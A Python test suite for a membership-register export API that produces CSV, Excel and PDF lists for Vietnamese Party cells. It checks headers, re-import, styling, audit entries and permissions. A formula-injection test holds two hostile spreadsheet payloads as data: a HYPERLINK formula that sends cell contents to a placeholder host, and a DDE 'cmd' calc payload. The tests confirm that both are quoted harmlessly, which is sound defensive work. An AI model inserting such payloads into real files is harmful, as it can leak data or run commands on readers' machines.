#!/usr/bin/env python3
"""Exports over the API (GET /api/v1/members/export), on one backend
(argv[1]: sqlite or pg): CSV with Vietnamese headers by default and the
API's field names on request, both importing back unchanged; text that a
spreadsheet would take for a formula quoted in CSV and Excel and read back
unchanged; the Excel workbook (date cells shown dd/mm/yyyy, a bold frozen
header row, widths, a filter) with the list's filters; the PDF list (the
Party document header, the names, page numbers, fonts embedded); one
audit entry per export naming the format and count; refusals as for the
CSV export.

Environment as test_api.py; pdftotext and pdffonts (poppler-utils, in the
test packages of scripts/install-deps.sh) read the PDF.
"""
import csv
import io
import os
import re
import shutil
import subprocess
import sys
import zipfile

from apilib import (BACKEND, DEMO, TESTS, TMP, Client, Server, citizen_id,
                    create_member, demo_db, import_apply, members_all, new_cell,
                    org_by_code, orgs_all, problem, run_tests, test)

XLSX_TYPE = ("application/vnd.openxmlformats-officedocument."
             "spreadsheetml.sheet")
URL = "/api/v1/members/export"
IMPORT = "/api/v1/members/import"


class Ctx:
    pass


C = Ctx()


def login(role):
    c = Client(C.srv.port)
    c.login(*DEMO[role])
    return c


def csv_rows(body):
    assert body.startswith(b"\xef\xbb\xbf"), body[:10]
    return list(csv.reader(io.StringIO(body.decode()[1:])))


def check_unchanged(data, ctype, n):
    """The import's check of an exported file: every row unchanged."""
    r = C.c.req("POST", IMPORT + "?dry_run=true", data, ctype=ctype)
    assert r.status == 200, r
    rep = r.json()
    assert rep["rows"] == n and rep["unchanged"] == n and \
        rep["updated"] == 0 and rep["created"] == 0 and \
        rep["committed"] is False, rep
    return rep


def last_export():
    items = C.c.js("/api/v1/audit?action=member.export&limit=1")["items"]
    assert items, items
    return items[0]["detail"]


def xlsx_parts(body):
    z = zipfile.ZipFile(io.BytesIO(body))
    return (z.read("xl/worksheets/sheet1.xml").decode(),
            z.read("xl/styles.xml").decode())


def xlsx_cells(sheet):
    """{ref: (type, style, text)} of every cell of the sheet."""
    out = {}
    for m in re.finditer(r'<c r="([A-Z]+\d+)"([^>]*)>(.*?)</c>', sheet):
        attrs, inner = m.group(2), m.group(3)
        t = re.search(r't="(\w+)"', attrs)
        s = re.search(r's="(\d+)"', attrs)
        text = re.search(r"<t[^>]*>(.*?)</t>|<v>(.*?)</v>", inner)
        val = (text.group(1) if text.group(1) is not None
               else text.group(2)) if text else ""
        val = (val.replace("&lt;", "<").replace("&gt;", ">")
               .replace("&quot;", '"').replace("&apos;", "'")
               .replace("&amp;", "&"))
        out[m.group(1)] = (t.group(1) if t else "n",
                           s.group(1) if s else None, val)
    return out


def col_letter(i):
    s = ""
    i += 1
    while i:
        i, r = divmod(i - 1, 26)
        s = chr(65 + r) + s
    return s


# ------------------------------------------------------------------- CSV

@test
def csv_headers_in_vietnamese_or_keys_and_reimport():
    g = org_by_code(C.c, "DBCS-HVDT")
    listed = members_all(C.c, f"&org={g['id']}")
    r = C.c.get(f"{URL}?org={g['id']}")
    assert r.status == 200 and \
        r.headers["content-type"] == "text/csv; charset=utf-8", r
    rows = csv_rows(r.body)
    head = rows[0]
    # The labels the import recognises, in the field table's order.
    assert head[:4] == ["Mã số", "Họ và tên", "Giới tính", "Ngày sinh"], head
    assert "Số CCCD" in head and "Ngày vào Đảng" in head and \
        head[-1] == "Mã chi bộ", head
    assert "version" not in head and "created_at" not in head, head
    body = rows[1:]
    assert len(body) == len(listed) > 0
    name, gender, birth = (head.index("Họ và tên"), head.index("Giới tính"),
                           head.index("Ngày sinh"))
    assert [x[name] for x in body] == [m["full_name"] for m in listed]
    assert {x[gender] for x in body} <= {"Nam", "Nữ"}, body[0]
    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2}", x[birth]) for x in body)
    check_unchanged(r.body, "text/csv", len(listed))
    # Machine keys: every field, the enumerations' names.
    r = C.c.get(f"{URL}?org={g['id']}&headers=keys")
    assert r.status == 200, r
    rows = csv_rows(r.body)
    assert rows[0][:3] == ["id", "full_name", "gender"] and \
        rows[0][-1] == "org_code" and "version" in rows[0], rows[0]
    assert {x[2] for x in rows[1:]} <= {"male", "female"}
    check_unchanged(r.body, "text/csv", len(listed))
    r = C.c.get(f"{URL}?org={g['id']}&headers=labels")
    assert r.status == 200 and csv_rows(r.body)[0] == head, r
    p = problem(C.c.get(URL + "?headers=vi"), 400)
    assert [e["field"] for e in p["errors"]] == ["headers"], p


# ------------------------------------------------------ formula injection

FORMULA_JOB = '=HYPERLINK("http://x"&A1,"bấm")'
FORMULA_EDU = "+1+cmd|' /C calc'!A0"


@test
def formula_cells_quoted_and_read_back_unchanged():
    # The free-text fields (job title and education are reference lists:
    # a formula there is refused as not in the list).
    cell = new_cell(C.c)
    a = create_member(C.c, cell["id"], "Phạm Văn Công Thức",
                      hometown=FORMULA_JOB, birthplace=FORMULA_EDU)
    a2 = create_member(C.c, cell["id"], "Phạm Văn Ký Tự",
                       hometown="@Hà Nội", birthplace="-Nam Định")
    # Genuine leading quotes survive: before a formula character (the
    # export doubles it) and before anything else (left as it is).
    b = create_member(C.c, cell["id"], "Phạm Thị Nháy",
                      hometown="'=giữ nguyên", birthplace="'Hà Tây")
    q = f"?org={cell['id']}"
    r = C.c.get(URL + q)
    assert r.status == 200, r
    raw = r.body.decode()
    assert '"\'=HYPERLINK(""http://x""&A1,""bấm"")"' in raw, raw
    rows = csv_rows(r.body)
    head = rows[0]
    got = {x[head.index("Họ và tên")]: x for x in rows[1:]}
    home, born = head.index("Quê quán"), head.index("Nơi sinh")
    ca, ca2, cb = got["Phạm Văn Công Thức"], got["Phạm Văn Ký Tự"], \
        got["Phạm Thị Nháy"]
    assert ca[home] == "'" + FORMULA_JOB and \
        ca[born] == "'" + FORMULA_EDU, ca
    assert ca2[home] == "'@Hà Nội" and ca2[born] == "'-Nam Định", ca2
    assert cb[home] == "''=giữ nguyên" and cb[born] == "'Hà Tây", cb
    # No cell of the file starts with a formula character.
    for row in rows:
        assert all(not v or v[0] not in "=+-@\t\r" for v in row), row
    check_unchanged(r.body, "text/csv", 3)
    csv_body = r.body
    # Excel: the same quote in the string cells.
    r = C.c.get(URL + q + "&format=xlsx")
    assert r.status == 200, r
    cells = xlsx_cells(xlsx_parts(r.body)[0])
    texts = {v[2] for v in cells.values()}
    assert "'" + FORMULA_JOB in texts and "'" + FORMULA_EDU in texts and \
        "''=giữ nguyên" in texts and "'Hà Tây" in texts, texts
    assert all(not t.startswith(("=", "+", "@")) for t in texts), texts
    assert not any(v[0] == "str" or "<f>" in v[2] for v in cells.values())
    check_unchanged(r.body, XLSX_TYPE, 3)
    # Written for real (both files), the records stay as they were.
    for data, ctype in ((csv_body, "text/csv"), (r.body, XLSX_TYPE)):
        r2 = import_apply(C.c, data, ctype=ctype)
        assert r2.status == 200 and r2.json()["unchanged"] == 3, r2
    for m, want in ((a, {"hometown": FORMULA_JOB,
                         "birthplace": FORMULA_EDU}),
                    (a2, {"hometown": "@Hà Nội",
                          "birthplace": "-Nam Định"}),
                    (b, {"hometown": "'=giữ nguyên",
                         "birthplace": "'Hà Tây"})):
        now = C.c.js(f"/api/v1/members/{m['id']}")
        assert now["version"] == m["version"], now
        for k, v in want.items():
            assert now[k] == v, (k, now)
    # A file written by hand with a quote before a formula: the text
    # after the quote, as Excel reads it.
    code = cell["code"]
    text = ("\ufeffHọ và tên,Giới tính,Ngày sinh,Dân tộc,Số CCCD,"
            "Ngày vào Đảng,Ngày chính thức,Loại đảng viên,"
            "Quê quán,Mã chi bộ\r\n" +
            f"Phạm Văn Tay,Nam,1980-01-01,Kinh,{citizen_id()},"
            f"2010-01-01,2011-01-01,Chính thức,"
            f"'=1+1,{code}\r\n")
    r = import_apply(C.c, text, ctype="text/csv")
    assert r.status == 200 and r.json()["created"] == 1, r
    m = [x for x in members_all(C.c, f"&org={cell['id']}")
         if x["full_name"] == "Phạm Văn Tay"]
    assert m and m[0]["hometown"] == "=1+1", m


# ------------------------------------------------------------------ Excel

@test
def xlsx_export_with_the_list_filters():
    g = org_by_code(C.c, "DBCS-HVDT")
    q = f"?org={g['id']}&status=probationary"
    listed = members_all(C.c, f"&org={g['id']}&status=probationary")
    assert listed, "the demo has probationary members"
    r = C.c.get(URL + q + "&format=xlsx")
    assert r.status == 200, r
    assert r.headers["content-type"] == XLSX_TYPE, r
    cd = r.headers["content-disposition"]
    assert cd.startswith('attachment; filename="danh-sach-dang-vien.xlsx"') \
        and "filename*=UTF-8''Danh%20s%C3%A1ch%20%C4%91%E1%BA%A3ng%20vi%C3" \
            "%AAn.xlsx" in cd, cd
    assert r.body[:2] == b"PK", r.body[:4]
    sheet, styles = xlsx_parts(r.body)
    cells = xlsx_cells(sheet)
    # The header row: Vietnamese, bold (its own style), frozen, filtered.
    heads = []
    i = 0
    while f"{col_letter(i)}1" in cells:
        heads.append(cells[f"{col_letter(i)}1"][2])
        i += 1
    assert heads[:4] == ["Mã số", "Họ và tên", "Giới tính", "Ngày sinh"] \
        and heads[-1] == "Mã chi bộ", heads
    hstyle = cells["A1"][1]
    assert hstyle is not None, cells["A1"]
    xfs = re.findall(r"<xf [^>]*>", styles.split("<cellXfs")[1])
    font = int(re.search(r'fontId="(\d+)"', xfs[int(hstyle)]).group(1))
    fonts = re.findall(r"<font>.*?</font>", styles)
    assert "<b/>" in fonts[font], (font, fonts)
    assert 'state="frozen"' in sheet and 'ySplit="1"' in sheet, sheet[:600]
    last = len(listed) + 1
    assert f'<autoFilter ref="A1:{col_letter(len(heads) - 1)}{last}"/>' \
        in sheet, sheet[-300:]
    assert re.search(r'<col min="2" max="2" width="2\d', sheet), sheet[:900]
    # Rows: the list's members, in its order; dates are date cells whose
    # format shows dd/mm/yyyy.
    name_col = col_letter(heads.index("Họ và tên"))
    birth_col = col_letter(heads.index("Ngày sinh"))
    assert [cells[f"{name_col}{k}"][2] for k in range(2, last + 1)] == \
        [m["full_name"] for m in listed]
    assert f"{name_col}{last + 1}" not in cells
    typ, style, val = cells[f"{birth_col}2"]
    assert typ == "n" and style is not None and float(val) > 10000, \
        cells[f"{birth_col}2"]
    fmt = re.search(r'numFmtId="(\d+)"', xfs[int(style)]).group(1)
    assert f'numFmtId="{fmt}" formatCode="dd/mm/yyyy"' in styles, styles
    status_col = col_letter(heads.index("Loại đảng viên"))
    assert {cells[f"{status_col}{k}"][2] for k in range(2, last + 1)} == \
        {"Dự bị"}
    check_unchanged(r.body, XLSX_TYPE, len(listed))
    d = last_export()
    assert d["format"] == "xlsx" and d["count"] == len(listed) and \
        d["status"] == "probationary" and d["org_id"] == g["id"], d
    # A search narrows it as it narrows the list.
    who = listed[0]["full_name"].split()[-1]
    found = members_all(C.c, f"&q={who}")
    r = C.c.get(URL + f"?format=xlsx&q={who}")
    cells = xlsx_cells(xlsx_parts(r.body)[0])
    names = [cells[f"{name_col}{k}"][2] for k in range(2, len(found) + 2)]
    assert names == [m["full_name"] for m in found] and \
        f"{name_col}{len(found) + 2}" not in cells, (names, found)
    # Keys as headers too, on request.
    r = C.c.get(URL + q + "&format=xlsx&headers=keys")
    cells = xlsx_cells(xlsx_parts(r.body)[0])
    assert cells["B1"][2] == "full_name", cells["B1"]
    check_unchanged(r.body, XLSX_TYPE, len(listed))


# -------------------------------------------------------------------- PDF

def pdf_text(body, name):
    path = os.path.join(TMP, f"{name}-{BACKEND}.pdf")
    with open(path, "wb") as f:
        f.write(body)
    text = subprocess.run(["pdftotext", "-layout", path, "-"], check=True,
                          capture_output=True).stdout.decode()
    fonts = subprocess.run(["pdffonts", path], check=True,
                           capture_output=True).stdout.decode()
    return text, fonts


@test
def pdf_list_with_the_party_header():
    assert shutil.which("pdftotext"), "poppler-utils (scripts/install-deps.sh test)"
    cell = org_by_code(C.c, "CB-VP-1")
    parent = C.c.js(f"/api/v1/orgs/{cell['parent_id']}")
    listed = members_all(C.c, f"&org={cell['id']}")
    r = C.c.get(f"{URL}?org={cell['id']}&format=pdf")
    assert r.status == 200 and \
        r.headers["content-type"] == "application/pdf", r
    cd = r.headers["content-disposition"]
    assert 'filename="danh-sach-dang-vien.pdf"' in cd, cd
    assert r.body.startswith(b"%PDF-"), r.body[:8]
    text, fonts = pdf_text(r.body, "cell")
    flat = re.sub(r"\s+", " ", text)
    assert "ĐẢNG CỘNG SẢN VIỆT NAM" in text and \
        "DANH SÁCH ĐẢNG VIÊN" in text, text[:800]
    assert cell["name"].upper() in flat and parent["name"].upper() in flat, \
        text[:800]
    assert re.search(r"ngày \d\d tháng \d\d năm \d{4}", text), text[:800]
    assert f"Tổng số: {len(listed)} đồng chí" in flat, text[:800]
    for m in listed:
        assert m["full_name"] in flat, m["full_name"]
    # dd/mm/yyyy dates, numbered rows, page numbers.
    b = listed[0]["birth_date"]
    assert f"{b[8:10]}/{b[5:7]}/{b[0:4]}" in text, b
    assert "Trang 1/" in text and re.search(r"\n\s*1\s+" +
                                           re.escape(listed[0]["full_name"]),
                                           text), text[:1500]
    # One cell, named in the heading: no column repeating its name.
    assert "Tổ chức đảng" not in text, text[:1500]
    # Every font embedded.
    lines = [x for x in fonts.splitlines()[2:] if x.strip()]
    assert lines and all(" yes yes " in x for x in lines), fonts
    d = last_export()
    assert d["format"] == "pdf" and d["count"] == len(listed), d
    # A longer list: the header row on every page, "Trang k/n".
    g = org_by_code(C.c, "DBCS-HVDT")
    n = len(members_all(C.c, f"&org={g['id']}"))
    r = C.c.get(f"{URL}?org={g['id']}&format=pdf")
    text, _ = pdf_text(r.body, "committee")
    pages = text.split("\f")
    pages = [p for p in pages if p.strip()]
    assert len(pages) > 1, len(pages)
    for k, p in enumerate(pages, 1):
        assert f"Trang {k}/{len(pages)}" in p and "Họ và tên" in p and \
            "Tổ chức đảng" in p, (k, p)
    assert re.search(rf"\n\s*{n}\s+\S", text), n
    # The whole register: the topmost organisation in view heads it.
    root = [o for o in orgs_all(C.c) if o["parent_id"] is None]
    assert len(root) == 1, root
    r = C.c.get(f"{URL}?format=pdf&status=probationary")
    text, _ = pdf_text(r.body, "register")
    assert root[0]["name"].upper() in re.sub(r"\s+", " ", text), text[:600]


# ----------------------------------------------------------- who may

@test
def refused_as_the_csv_export_is():
    for role in ("secretary", "member", "viewer"):
        c = login(role)
        for f in ("csv", "xlsx", "pdf"):
            problem(c.get(f"{URL}?format={f}"), 403, "forbidden")
    c = login("inspection")
    r = c.get(f"{URL}?format=xlsx")
    assert r.status == 200 and r.body[:2] == b"PK", r
    p = problem(C.c.get(URL + "?format=docx"), 400)
    assert [e["field"] for e in p["errors"]] == ["format"], p


def setup():
    C.db = demo_db("export")
    C.srv = Server(C.db)
    C.c = login("admin")


def teardown():
    C.srv.stop()


if __name__ == "__main__":
    assert TESTS
    sys.exit(run_tests(setup, teardown))
